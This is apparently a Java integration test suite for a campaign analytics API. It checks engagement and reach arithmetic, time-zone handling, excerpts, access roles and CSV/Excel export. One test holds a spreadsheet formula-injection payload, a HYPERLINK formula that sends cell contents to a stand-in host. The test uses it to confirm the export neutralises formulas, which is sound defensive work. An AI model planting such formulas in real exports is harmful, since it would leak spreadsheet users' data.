package id.serambi.campaign.analytics;

import static id.serambi.campaign.CampaignFixtures.markPublished;
import id.serambi.support.Xlsx;
import id.serambi.campaign.posts.ContentType;
import static id.serambi.campaign.CampaignFixtures.post;
import static id.serambi.campaign.CampaignFixtures.variant;
import static id.serambi.campaign.CampaignFixtures.variantId;
import static id.serambi.support.Problems.assertProblem;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import id.serambi.campaign.CampaignFixtures;
import id.serambi.support.Accounts;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.path.json.config.JsonPathConfig;
import jakarta.inject.Inject;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** Pins the arithmetic on a small known data set (February 2032, used by no other test). */
@QuarkusTest
class AnalyticsTest {

    private static final double EPS = 1e-9;

    @Inject
    AgroalDataSource db;

    private void metrics(long variant, String capturedAt, Long impressions, Long reach, long reactions, long comments,
            long shares, long saves, long clicks) {
        Accounts.sql(db, """
                INSERT INTO variant_metric (variant_id, captured_at, source, impressions, reach, reactions, comments, shares, saves, clicks)
                VALUES (?, ?::timestamptz, 'API', ?, ?, ?, ?, ?, ?, ?)""", variant, capturedAt, impressions, reach, reactions,
                comments, shares, saves, clicks);
    }

    private long published(String staff, long campaign, String type, String platform, String at) {
        Map<String, Object> body = post(variant(platform, "Unggahan " + type, null));
        body.put("contentType", type);
        body.put("campaignId", campaign);
        long id = CampaignFixtures.createPost(staff, body);
        markPublished(db, id, platform, "https://example.test/" + UUID.randomUUID(), at);
        return variantId(db, id, platform);
    }

    @Test
    void engagementRateReachAndBestTimesOnAKnownDataSet() {
        String staff = Accounts.tokenFor(db, "STAFF");
        Map<String, Object> c = CampaignFixtures.campaign("Analitik");
        c.put("startsOn", "2032-02-01");
        c.put("endsOn", "2032-02-29");
        c.put("kpiTargets", List.of(Map.of("metric", "IMPRESSIONS", "target", 5000),
                Map.of("metric", "ENGAGEMENT_RATE", "target", 0.09), Map.of("metric", "POSTS", "target", 4),
                Map.of("metric", "REACH", "target", 1000)));
        long campaign = CampaignFixtures.createCampaign(staff, c);

        // Tuesday 3 Feb, 19:00 and 20:00 WITA.
        long aIg = published(staff, campaign, "EDUCATIONAL_TIP", "INSTAGRAM", "2032-02-03T11:00:00Z");
        long aX = published(staff, campaign, "EDUCATIONAL_TIP", "X", "2032-02-03T12:00:00Z");
        // Saturday 7 Feb, 19:00 WITA; an older snapshot that the latest replaces.
        long bIg = published(staff, campaign, "QUOTE", "INSTAGRAM", "2032-02-07T11:00:00Z");
        // Sunday 8 Feb 17:30 UTC is Monday 9 Feb 01:30 WITA: the second week.
        long cFb = published(staff, campaign, "QUOTE", "FACEBOOK", "2032-02-08T17:30:00Z");
        metrics(aIg, "2032-02-04T00:00:00Z", 1000L, 800L, 50, 10, 5, 10, 5);    // 80 engagements
        metrics(aX, "2032-02-04T00:00:00Z", 400L, null, 10, 2, 3, 0, 5);        // 20
        metrics(bIg, "2032-02-08T00:00:00Z", 99_999L, 99_999L, 9, 9, 9, 9, 9);  // superseded
        metrics(bIg, "2032-02-09T00:00:00Z", 2000L, 1200L, 200, 20, 10, 20, 0); // 250
        metrics(cFb, "2032-02-10T00:00:00Z", 600L, 400L, 30, 0, 0, 0, 0);       // 30

        JsonPath a = given().auth().oauth2(staff).get("/api/analytics?from=2032-02-01&to=2032-02-29&campaignId=" + campaign)
                .then().statusCode(200).extract().jsonPath()
                .using(new JsonPathConfig(JsonPathConfig.NumberReturnType.DOUBLE));
        assertEquals(4, a.getInt("totals.posts"));
        assertEquals(4000, a.getLong("totals.impressions"));
        assertEquals(380, a.getLong("totals.engagements"));
        assertEquals(0.095, a.getDouble("totals.engagementRate"), EPS);
        // Reach is averaged over the three posts that reported it, never summed: (800 + 1200 + 400) / 3.
        assertEquals(800.0, a.getDouble("totals.averageReach"), EPS);
        assertEquals(List.of(800, 1200, 400), a.getList("posts.findAll { it.reach != null }.reach"));
        assertEquals("Unggahan QUOTE", a.getString("posts.find { it.platform == 'FACEBOOK' }.excerpt"));
        // One time per post, in UTC: the dashboard shows it in WITA (a local time without an offset is gone).
        assertEquals(java.time.Instant.parse("2032-02-08T17:30:00Z"),
                java.time.Instant.parse(a.getString("posts.find { it.platform == 'FACEBOOK' }.publishedAt")));
        assertFalse(a.getMap("posts[0]").containsKey("publishedAtLocal"));

        assertEquals(0.11, a.getDouble("byPlatform.find { it.key == 'INSTAGRAM' }.engagementRate"), EPS);
        assertEquals(1000.0, a.getDouble("byPlatform.find { it.key == 'INSTAGRAM' }.averageReach"), EPS);
        assertEquals(0.05, a.getDouble("byPlatform.find { it.key == 'X' }.engagementRate"), EPS);
        assertNull(a.get("byPlatform.find { it.key == 'X' }.averageReach"));
        assertEquals(0.05, a.getDouble("byPlatform.find { it.key == 'FACEBOOK' }.engagementRate"), EPS);
        assertEquals(100.0 / 1400, a.getDouble("byContentType.find { it.key == 'EDUCATIONAL_TIP' }.engagementRate"), EPS);
        assertEquals(280.0 / 2600, a.getDouble("byContentType.find { it.key == 'QUOTE' }.engagementRate"), EPS);
        assertEquals(0.095, a.getDouble("byCampaign[0].engagementRate"), EPS);

        assertEquals(List.of("2032-02-02", "2032-02-09"), a.getList("overTime.key"));
        assertEquals(List.of(3400, 600), a.getList("overTime.impressions"));
        assertEquals(List.of("MONDAY", "TUESDAY", "SATURDAY"), a.getList("byDayOfWeek.key"));
        assertEquals("SATURDAY", a.getString("bestDay"));
        assertEquals(19, a.getInt("bestHour"));
        assertEquals(List.of("01", "19", "20"), a.getList("byHour.key"));

        assertEquals(0.8, a.getDouble("kpis.find { it.metric == 'IMPRESSIONS' }.progress"), EPS);
        assertEquals(false, a.getBoolean("kpis.find { it.metric == 'IMPRESSIONS' }.achieved"));
        assertEquals(true, a.getBoolean("kpis.find { it.metric == 'ENGAGEMENT_RATE' }.achieved"));
        assertEquals(4.0, a.getDouble("kpis.find { it.metric == 'POSTS' }.actual"), EPS);
        assertEquals(0.8, a.getDouble("kpis.find { it.metric == 'REACH' }.progress"), EPS);

        String csv = given().auth().oauth2(staff).accept("text/csv")
                .get("/api/analytics?from=2032-02-01&to=2032-02-29&campaignId=" + campaign)
                .then().statusCode(200).contentType(startsWith("text/csv")).extract().asString();
        List<String> lines = csv.lines().toList();
        assertEquals(5, lines.size(), csv);
        assertTrue(lines.get(0).contains("postId,variantId,platform"), lines.get(0));
        // The WITA time carries its offset (RFC 3339), so that no reader has to guess the zone.
        assertTrue(lines.stream().anyMatch(l -> l.contains("FACEBOOK") && l.contains(",2032-02-09T01:30:00+08:00,")
                && l.contains(",600,400,30,0,0,0,0,,30,0.05")), csv);
    }

    @Test
    void anExcerptKeepsWholeCharactersAndMarksWhatItCut() {
        assertEquals("Tiga langkah: cek sumbernya.", AnalyticsService.excerpt("  Tiga langkah:\n cek   sumbernya.  "));
        String longText = "📚".repeat(100);
        String cut = AnalyticsService.excerpt(longText);
        assertEquals(80, cut.codePointCount(0, cut.length()));
        assertTrue(cut.endsWith("📚…"), cut);
        assertEquals("x".repeat(80), AnalyticsService.excerpt("x".repeat(80)));
        assertEquals("", AnalyticsService.excerpt(null));
    }

    @Test
    void badParametersAndRoles() {
        String staff = Accounts.tokenFor(db, "STAFF");
        String member = Accounts.tokenFor(db, "MEMBER");
        assertProblem(given().auth().oauth2(staff).get("/api/analytics?to=2032-02-29").then(), 400, "validation");
        assertProblem(given().auth().oauth2(staff).get("/api/analytics?from=2032-02-01&to=2032-02-29&campaignId=abc").then(),
                400, "validation");
        assertProblem(given().auth().oauth2(member).get("/api/analytics?from=2032-02-01&to=2032-02-29").then(), 403, "forbidden");
        given().auth().oauth2(staff).get("/api/analytics?from=2040-01-01&to=2040-01-31").then().statusCode(200);
    }

    /** Issue 13, finding 5: a post's text that a spreadsheet would run comes out of the analytics CSV as text. */
    @Test
    void theCsvExportNeutralisesFormulasInAPostsText() throws Exception {
        String staff = Accounts.tokenFor(db, "STAFF");
        long campaign = CampaignFixtures.createCampaign(staff, CampaignFixtures.campaign("Formula"));
        Map<String, Object> body = post(variant("FACEBOOK", "=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\");=1+1", null));
        body.put("campaignId", campaign);
        long id = CampaignFixtures.createPost(staff, body);
        markPublished(db, id, "FACEBOOK", "https://example.test/" + UUID.randomUUID(), "2033-03-03T03:00:00Z");
        metrics(variantId(db, id, "FACEBOOK"), "2033-03-04T00:00:00Z", 100L, 80L, 5, 0, 0, 0, 0);

        String csv = given().auth().oauth2(staff).accept("text/csv")
                .get("/api/analytics?from=2033-03-01&to=2033-03-31&campaignId=" + campaign)
                .then().statusCode(200).contentType(startsWith("text/csv")).extract().asString();
        var records = org.apache.commons.csv.CSVFormat.EXCEL.parse(new java.io.StringReader(csv.substring(1))).getRecords();
        assertEquals(AnalyticsResource.CSV_HEADER, String.join(",", records.get(0).toList()));
        assertEquals(2, records.size(), csv);
        assertEquals("'=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\");'=1+1", records.get(1).get(17), csv);
        assertEquals("100", records.get(1).get(7));

        // Issue 17 point 11: the Excel file for people has Indonesian headers and words, a WITA date cell, and the
        // text as a text cell (never evaluated), without the CSV's '.
        byte[] file = given().auth().oauth2(staff).accept(Xlsx.MEDIA_TYPE)
                .get("/api/analytics?from=2033-03-01&to=2033-03-31&campaignId=" + campaign)
                .then().statusCode(200).contentType(startsWith(Xlsx.MEDIA_TYPE))
                .header("Content-Disposition", org.hamcrest.Matchers.endsWith(".xlsx\"")).extract().asByteArray();
        var rows = Xlsx.rows(file);
        assertEquals(2, rows.size());
        assertEquals(AnalyticsResource.XLSX_HEADER, Xlsx.texts(rows.get(0)));
        var row = rows.get(1);
        assertEquals("Facebook", row.getCellText(2));
        assertEquals(AnalyticsResource.CONTENT_TYPE.get(ContentType.valueOf(
                given().auth().oauth2(staff).get("/api/analytics?from=2033-03-01&to=2033-03-31&campaignId=" + campaign)
                        .then().extract().path("posts[0].contentType"))), row.getCellText(3));
        assertEquals(java.time.LocalDateTime.parse("2033-03-03T11:00"), row.getCellAsDate(5).orElseThrow(),
                "03:00 UTC is 11:00 WITA, as a date cell");
        assertEquals(org.dhatim.fastexcel.reader.CellType.STRING, row.getCell(17).getType());
        assertEquals("=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\");=1+1", row.getCellText(17));
        assertNull(row.getCell(17).getFormula());
        assertEquals(100, row.getCellAsNumber(7).orElseThrow().intValue());
    }
}
